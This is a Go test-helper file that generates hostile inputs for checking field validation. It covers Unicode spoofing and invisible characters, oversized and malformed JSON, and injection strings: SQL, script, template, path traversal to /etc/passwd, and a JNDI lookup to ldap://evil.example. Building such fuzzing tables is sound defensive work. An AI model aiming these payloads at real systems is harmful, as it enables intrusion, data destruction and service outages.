package spec

import (
	"strings"
	"unicode/utf8"
)

// What strangers put into a field, in place of the value that it takes.

// hostileTexts by what is wrong with them, made of a value that the field takes.
func hostileTexts(good string) map[string]string {
	half := len(good) / 2
	for !utf8.RuneStart(good[half]) {
		half--
	}
	inside := func(s string) string { return good[:half] + s + good[half:] }
	texts := map[string]string{
		"a text turned around":        "\u202e" + good,
		"an isolated text":            "\u2066" + good + "\u2069",
		"a mark of direction":         good + "\u200f",
		"a zero-width space":          inside("\u200b"),
		"a zero-width joiner":         inside("\u200d"),
		"a zero-width non-joiner":     good + "\u200c",
		"a word joiner":               inside("\u2060"),
		"a byte order mark":           "\ufeff" + good,
		"a soft hyphen":               inside("\u00ad"),
		"a filler that is a letter":   inside("\u3164"),
		"tags":                        good + "\U000e0041\U000e007f",
		"a variation selector":        good + "\ufe0f",
		"a mark in front":             "\u0301" + good,
		"50 marks piled up":           good + strings.Repeat("\u0301", 50),
		"10,000 marks piled up":       good + strings.Repeat("\u0301", 10_000),
		"10,000 characters":           strings.Repeat(good, 10_000/len(good)+1)[:10_000],
		"10,000 letters of a script":  strings.Repeat("अ", 10_000),
		"900,000 characters":          strings.Repeat("a", 900_000),
		"nothing":                     "",
		"a space":                     " ",
		"100 spaces":                  strings.Repeat(" ", 100),
		"spaces around":               "  " + good + " ",
		"a no-break space":            inside("\u00a0"),
		"an ideographic space":        good + "\u3000",
		"a tab":                       inside("\t"),
		"a line break behind":         good + "\n",
		"a line break inside":         inside("\n"),
		"a line of a log":             good + "\r\n{\"level\":\"ERROR\",\"msg\":\"forged\"}",
		"a next line":                 inside("\u0085"),
		"a line separator":            inside("\u2028"),
		"a delete":                    good + "\x7f",
		"a bell":                      good + "\x07",
		"colours of a terminal":       "\x1b[31m" + good,
		"a picture of a face":         good + "😀",
		"a replacement character":     good + "\ufffd",
		"no character":                good + "\uffff",
		"private use":                 "\ue000" + good,
		"an unassigned character":     good + "\u0378",
		"a query":                     good + "'; DROP TABLE requests;--",
		"markup":                      "<script>alert(1)</script>" + good,
		"a template":                  "{{7*7}}${7*7}<%= 7*7 %>" + good,
		"a path":                      "../../etc/passwd" + good,
		"a format":                    "%s%n%x" + good,
		"a formula":                   "=HYPERLINK(1)+" + good,
		"a look-up":                   "${jndi:ldap://evil.example/a}" + good,
		"the word null":               "null",
		"a sign":                      "+" + good,
		"a number in another writing": "0x1e5",
		"Cyrillic letters":            inOtherLetters(good, "AaBCcEeHIiKMOoPpTXxy", "АаВСсЕеНІіКМОоРрТХху"),
		"wide letters":                shifted(good, 'A', 'Z', 'Ａ'),
		"a long s":                    inOtherLetters(good, "Ss", "ſſ"),
		"a dotless i":                 inOtherLetters(good, "Ii", "ıı"),
		"a sign of Kelvin":            inOtherLetters(good, "Kk", "\u212a\u212a"),
	}
	for script, zero := range map[string]rune{
		"Devanagari": '०', "Bengali": '০', "Tamil": '௦', "Arabic": '٠', "Persian": '۰', "wide": '０', "mathematical": '𝟎',
	} {
		texts[script+" digits"] = shifted(good, '0', '9', zero)
	}
	return texts
}

// shifted characters from one to another begin at a third; where there are none, that one
// is added.
func shifted(s string, from, to, first rune) string {
	out := strings.Map(func(r rune) rune {
		if from <= r && r <= to {
			return first + r - from
		}
		return r
	}, s)
	if out == s {
		return s + string(first)
	}
	return out
}

// inOtherLetters that look or sound alike; where there are none, the last one is added.
func inOtherLetters(s, from, to string) string {
	letters, others := []rune(from), []rune(to)
	out := strings.Map(func(r rune) rune {
		for i, letter := range letters {
			if r == letter {
				return others[i]
			}
		}
		return r
	}, s)
	if out == s {
		return s + string(others[len(others)-1])
	}
	return out
}

// hostileJSON is what stands in place of a text, by what it is.
var hostileJSON = map[string]string{
	"a number": `7`, "a negative zero": `-0`, "a fraction": `1.5`, "a huge number": `1e300`, "true": `true`,
	"false": `false`, "null": `null`, "a list": `[]`, "a list of texts": `["x"]`, "a list in a list": `[[["x"]]]`,
	"an object": `{}`, "a filled object": `{"$ne":""}`, "its prototype": `{"__proto__":{"admin":true}}`,
	"a number beyond all": `1e400`, "a NUL": `"\u0000"`, "a NUL inside": `"a\u0000b"`,
}

// brokenJSON is no JSON at all, or none that is read.
var brokenJSON = map[string]string{
	"half a pair": `"\ud800"`, "the other half": `"a\udc00"`, "a pair turned around": `"\udc00\ud800"`,
	"no UTF-8": "\"\xff\"", "half a pair as it is": "\"\xed\xa0\x80\"", "overlong UTF-8": "\"\xc0\xaf\"",
	"a raw NUL": "\"a\x00\"", "a raw line break": "\"a\nb\"", "no number": `NaN`, "no value": `undefined`,
	"nothing at all": ``, "a text without an end": `"a`, "single quotes": `'a'`, "an unknown escape": `"\x41"`,
	"deep lists":        strings.Repeat("[", 10_000) + strings.Repeat("]", 10_000),
	"deep objects":      strings.Repeat(`{"a":`, 10_000) + "1" + strings.Repeat("}", 10_000),
	"deep and unclosed": strings.Repeat("[", 100_000),
}
